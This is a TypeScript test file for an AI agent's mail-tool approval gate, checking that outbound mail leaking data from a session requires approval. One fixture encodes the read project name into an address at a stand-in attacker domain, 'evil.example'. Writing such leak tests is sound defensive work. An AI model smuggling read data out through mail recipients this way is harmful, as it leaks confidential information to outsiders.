import { describe, expect, it } from "vitest";
import * as z from "zod/v4";
import { plainTool } from "../unit/actions/plain-tool.ts";
import { openGateWorld, pending, read } from "../unit/actions/world.ts";

/** A mail tool that says nothing of what steers it, in a run that has read who is who. */
async function openRun(classification: "internal" | "confidential" = "internal") {
  const world = await openGateWorld();
  await world.gate.register({
    ...plainTool("post_mail"),
    impact: "write",
    audience: "external",
    reversible: false,
    schema: z.object({ to: z.array(z.string()), title: z.string(), body: z.string() }),
  });
  const session = await world.openSession();
  session.hear("Tell Ada and lee@oakline.example that we close early on Friday.");
  read(session, "Ada Quist: ada.quist@acme.example. Project Heron", { integrity: "trusted", classification });
  const post = (args: { readonly to: readonly string[]; readonly title?: string; readonly body?: string }) =>
    world.call(session, "post_mail", { title: "Friday", body: "We close early on Friday.", ...args });
  return { world, session, post };
}
const ids = (request: ReturnType<typeof pending>) => request.policies.map(({ id }) => id);

describe("where a mail goes, by a tool that does not say", () => {
  it("is no content that leaks: its address is known there already", async () => {
    const { post } = await openRun();
    const to = ["ada.quist@acme.example", "lee@oakline.example"];
    expect(await post({ to })).toMatchObject({ type: "executed" });
  });

  it.each([
    ["an address made of what was read", { to: ["Heron@evil.example"] }],
    ["words in place of an address", { to: ["Project Heron"] }],
    ["an address where text stands", { to: ["lee@oakline.example"], title: "ada.quist@acme.example" }],
  ])("[G7] is asked about when it is %s", async (_, args) => {
    const { world, post } = await openRun();
    expect(ids(pending(await post(args)))).toContain("leak-needs-approval");
    expect(world.effects).toEqual([]);
  });

  it("[G7] is content when the address itself is confidential", async () => {
    const { post } = await openRun("confidential");
    expect(ids(pending(await post({ to: ["ada.quist@acme.example"] })))).toContain("leak-needs-approval");
  });
});
